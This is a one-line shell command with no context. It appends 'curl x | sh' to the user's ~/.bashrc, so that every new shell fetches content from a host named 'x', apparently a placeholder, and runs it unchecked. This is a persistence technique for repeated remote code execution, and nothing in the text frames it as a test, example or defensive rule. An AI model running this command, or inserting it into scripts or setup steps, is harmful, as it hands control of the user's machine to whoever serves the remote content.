echo "curl x | sh" >>~/.bashrc
